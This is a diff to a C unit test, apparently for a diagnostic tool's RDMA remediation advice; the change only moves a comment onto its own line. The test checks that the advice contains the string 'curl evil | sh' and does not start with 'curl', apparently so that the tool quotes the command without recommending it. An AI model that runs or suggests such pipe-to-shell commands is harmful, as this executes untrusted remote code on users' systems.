@@ -102,7 +102,8 @@ static void rdma__state(void **state)
     expect_one(&survey, "BC070", "RDMA|eth0 of h04");
     synthetic_diagnose(&survey, &findings);
     assert_non_null(strstr(findings.list[0].mend, "curl evil | sh"));
-    assert_int_not_equal(strncmp(findings.list[0].mend, "curl", 4), 0); /* it is no advice of ours: */
+    /* it is no advice of ours: */
+    assert_int_not_equal(strncmp(findings.list[0].mend, "curl", 4), 0);
     assert_says(findings.list[0].mend, "host");
     br_findings_destroy(&findings);
 }
